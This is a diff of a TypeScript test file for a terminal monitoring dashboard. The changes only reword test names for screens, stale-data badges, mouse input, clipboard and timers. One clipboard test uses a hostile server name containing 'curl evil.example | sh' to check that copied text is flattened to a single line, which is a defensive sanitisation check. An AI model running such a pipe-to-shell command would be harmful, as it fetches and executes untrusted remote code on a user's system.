@@ -49,7 +49,7 @@ const problem = (over: Partial<Problem> = {}): Problem =>
 
 beforeEach(() => open());
 
-test('every screen is one key away, and draws itself at every size', () => {
+test('every screen is one key away, and is drawn at every size', () => {
   for (const size of [
     { columns: 40, rows: 12 },
     { columns: 80, rows: 24 },
@@ -67,7 +67,7 @@ test('every screen is one key away, and draws itself at every size', () => {
   }
 });
 
-test('the dialog of freshness names every resource and what it is read from', () => {
+test('the freshness dialog names every resource and its path', () => {
   open({ columns: 120, rows: 40 });
   press('!');
   for (const { title, endpoint } of resources) {
@@ -75,7 +75,7 @@ test('the dialog of freshness names every resource and what it is read from', ()
   }
 });
 
-test('a narrow header keeps what kind of session it is, and the clock', () => {
+test('a narrow header keeps the kind of session and the clock', () => {
   const top = () => text().split('\n')[0] ?? '';
   open({ columns: 40, rows: 12 });
   runtime = new Runtime(
@@ -89,13 +89,13 @@ test('a narrow header keeps what kind of session it is, and the clock', () => {
   expect(top().length).toBe(40);
 });
 
-test('Esc leads back through the screens one came from', () => {
+test('Esc leads back through the earlier screens', () => {
   press('2', '3', 'esc', 'esc');
   expect(runtime.ui.getState().screen).toBe('overview');
 });
 
 describe('a frozen screen', () => {
-  test('stands still and says for how long, while data goes on being collected', async () => {
+  test('does not change and says for how long, while data is still collected', async () => {
     press(' ');
     await services.clock.advance(42_000);
     services.show(sampleState({ name: 'another name' }));
@@ -108,8 +108,8 @@ describe('a frozen screen', () => {
   });
 });
 
-describe('what is stale', () => {
-  test('says so with its age, and nothing else does', async () => {
+describe('stale data', () => {
+  test('is marked with its age, and nothing else is', async () => {
     const state = sampleState();
     const old = { ...state.topology, updatedAt: sampleNow - 300_000 };
     services.show({ ...state, topology: old });
@@ -119,7 +119,7 @@ describe('what is stale', () => {
     expect(text()).not.toContain('dashboard STALE');
   });
 
-  test('is summed up where badges leave no room, so that the clock stays', () => {
+  test('is summed up where single marks leave no room for the clock', () => {
     const old = sampleNow - 300_000;
     const state = sampleState();
     services.show({
@@ -136,7 +136,7 @@ describe('what is stale', () => {
     expect(header).toMatch(/ 3 of 4 STALE 5m 00s +\d\d:\d\d:\d\d $/);
   });
 
-  test('an error is told in its own words where nothing worse is known', () => {
+  test('has the message of its error where nothing worse is known', () => {
     const state = sampleState();
     const error = { code: 'REFUSED', message: 'The server refuses connections.', since: sampleNow };
     services.show({ ...state, dashboard: { ...state.dashboard, error } });
@@ -145,7 +145,7 @@ describe('what is stale', () => {
   });
 });
 
-test('the worst problem is on every screen, with its count in the header', () => {
+test('the worst problem is on every screen, and the header counts problems', () => {
   services.show(sampleState(), {
     ...calm,
     problems: [problem(), problem({ key: 'b', severity: 'warning' })],
@@ -159,7 +159,7 @@ test('the worst problem is on every screen, with its count in the header', () =>
   }
 });
 
-test('what somebody acknowledged no longer leads', () => {
+test('an acknowledged problem is not the top problem any more', () => {
   const known = problem({ acknowledged: { at: sampleNow, note: 'on it' } });
   services.show(sampleState(), { ...calm, problems: [known] });
   runtime.resize(SIZE);
@@ -167,7 +167,7 @@ test('what somebody acknowledged no longer leads', () => {
 });
 
 describe('help and palette', () => {
-  test('help knows every key of the table, and searching narrows it', () => {
+  test('help lists every key of the table, and a search narrows it', () => {
     open({ columns: 120, rows: 200 });
     press('?');
     const shown = text();
@@ -199,32 +199,32 @@ describe('help and palette', () => {
   });
 });
 
-test('below the smallest window it says so and can still be left', () => {
+test('a window that is too small says so and can still be left', () => {
   open({ columns: 30, rows: 8 });
   expect(text().replaceAll('\n', '')).toContain('too small, needs 40×12');
   press('q');
   expect(quits).toBe(1);
 });
 
-test('what is copied is one line, however many a hostile name has', () => {
+test('copied text is one line, whatever line ends a hostile name has', () => {
   runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
   expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
 });
 
-test('units change everywhere and at once', () => {
+test('units change everywhere at once', () => {
   expect(text()).toContain('bit/s');
   press('b');
   expect(text()).not.toContain('bit/s');
   expect(text()).toContain('B/s');
 });
 
-test('polling is asked for less often, and it says so', () => {
+test('polling becomes slower, and a notice says so', () => {
   press('-');
   expect(services.monitor.pace).toBe(2);
   expect(text()).toContain('× 2');
 });
 
-test('the note of a small window is one line, however small it is', () => {
+test('the note in a window that is too small is one line in any size', () => {
   for (const columns of [39, 24, 12, 3]) {
     open({ columns, rows: 8 });
     expect(
@@ -237,7 +237,7 @@ test('the note of a small window is one line, however small it is', () => {
   }
 });
 
-test('after :reset the theme is the one of the start at once', () => {
+test(':reset restores the theme of the start at once', () => {
   const set: (string | undefined)[] = [];
   const own = fakeServices(sampleState(), {
     setTheme: (theme) => {
@@ -281,7 +281,7 @@ describe('with the mouse', () => {
   const press = (mouse: ReturnType<typeof createMouse>, words: string) =>
     mouse({ kind: 'press', ...rowOf(words) });
 
-  test('a quick double click on a row that was not selected opens it, though the list moved meanwhile', async () => {
+  test('a quick double click on an unselected row opens it, also when the list moved meanwhile', async () => {
     const mouse = createMouse(runtime);
     const place = rowOf('edge-3b');
     mouse({ kind: 'press', ...place });
@@ -305,7 +305,7 @@ describe('with the mouse', () => {
     });
   });
 
-  test('a click on a header sorts, another one turns the order round; a click in the footer is its key', () => {
+  test('a click on a header sorts, a second one turns the order round; a click in the footer presses its key', () => {
     open(SIZE, 'servers');
     const mouse = createMouse(runtime);
     press(mouse, ' Mem');
@@ -316,14 +316,14 @@ describe('with the mouse', () => {
     expect(runtime.ui.getState().dialogs.at(-1)?.kind).toBe('menu');
   });
 
-  test('a click into the list without the focus gives it the focus', () => {
+  test('a click into a list without the focus focuses it', () => {
     open({ columns: 160, rows: 40 }, 'journal');
     const { x, y } = rowOf('Per object');
     createMouse(runtime)({ kind: 'press', x, y: y + 2 });
     expect(runtime.ui.getState().slices.journal).toMatchObject({ focus: 'rates' });
   });
 
-  test('the wheel moves the list below the pointer, whichever had the focus; where nothing moves, nothing does', () => {
+  test('the wheel scrolls the list below the pointer, with or without the focus, and nothing where nothing scrolls', () => {
     const wheel = (id: string, up = false) => {
       const { rect } = runtime.panes().find((pane) => pane.id === id) ?? {};
       createMouse(runtime)({ kind: 'wheel', up, x: (rect?.x ?? 0) + 3, y: (rect?.y ?? 0) + 2 });
@@ -344,7 +344,7 @@ describe('with the mouse', () => {
   });
 });
 
-test('the footer keeps its keys under a notice, and names only what does something', () => {
+test('the footer keeps its keys under a notice, and names only keys that do something', () => {
   open(SIZE, 'servers');
   const foot = () =>
     text()
@@ -361,7 +361,7 @@ test('the footer keeps its keys under a notice, and names only what does somethi
   expect(foot()).not.toMatch(/open|acknowledge/);
 });
 
-test('a new critical problem is told once, however long it stands and flickers', () => {
+test('a new critical problem is announced once, however long it lasts and however often it comes back', () => {
   const told: string[] = [];
   let listener = () => {};
   let problems: readonly Problem[] = [];
@@ -388,14 +388,14 @@ test('a new critical problem is told once, however long it stands and flickers',
   expect(told).toHaveLength(2);
 });
 
-describe('the time of the program', () => {
+describe('time in the program', () => {
   const draws = () => {
     const seen = { times: 0 };
     runtime.subscribe(() => seen.times++);
     return seen;
   };
 
-  test('a notice goes away after five seconds', async () => {
+  test('a notice disappears after five seconds', async () => {
     runtime.start();
     runtime.notice('Copied the name.', 'ok');
     await services.clock.advance(4_000);
@@ -405,7 +405,7 @@ describe('the time of the program', () => {
     runtime.stop();
   });
 
-  test('what comes within 60 ms is drawn together', async () => {
+  test('changes within 60 ms are drawn together', async () => {
     runtime.start();
     await services.clock.advance(500);
     const seen = draws();
@@ -420,7 +420,7 @@ describe('the time of the program', () => {
     runtime.stop();
   });
 
-  test('the clock goes on each second, on the second', async () => {
+  test('the clock advances each second, on the second', async () => {
     runtime.start();
     const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(text())?.[0].slice(-2);
     await services.clock.advance(999);
@@ -432,7 +432,7 @@ describe('the time of the program', () => {
     runtime.stop();
   });
 
-  test('after its end nothing is drawn and nothing waits', async () => {
+  test('nothing is drawn and no timer is left after the end', async () => {
     runtime.start();
     services.show(sampleState({ name: 'late' }));
     runtime.stop();
@@ -443,7 +443,7 @@ describe('the time of the program', () => {
   });
 });
 
-test('who looks at keys sees each of them, until it looks no more', () => {
+test('a listener sees each key until it is removed', () => {
   const seen: string[] = [];
   const off = runtime.onPress(({ name }) => seen.push(name));
   press('2', 'j');
@@ -452,27 +452,27 @@ test('who looks at keys sees each of them, until it looks no more', () => {
   expect(seen).toEqual(['2', 'j']);
 });
 
-test('several lines are copied as lines, and it says what was copied', () => {
+test('several lines are copied as lines, and a notice names what was copied', () => {
   runtime.copy(['one\ntwo', 'three'], 'two names');
   expect(services.copied).toEqual(['one two\nthree']);
   runtime.draw();
   expect(text()).toContain('Copied two names.');
 });
 
-test('what is pasted goes into the field that is open', () => {
+test('a paste goes into the open field', () => {
   press('2', '/');
   runtime.paste('edge-1');
   press('enter');
   expect(runtime.ui.getState().slices.servers).toMatchObject({ filter: 'edge-1' });
 });
 
-test('another cluster begins without what was opened, held and gone through in the old one', () => {
+test('another cluster starts with nothing opened, frozen or visited', () => {
   press('2', 'enter', ' ', '?');
   runtime.forget();
   expect(runtime.ui.getState()).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
 });
 
-test('a name behind the command of a screen opens what has that name', () => {
+test('a name after the command of a screen opens the object with that name', () => {
   runtime.run('screen.servers', 'edge-1a');
   runtime.draw();
   expect(text()).toContain('┌─ Server edge-1a');
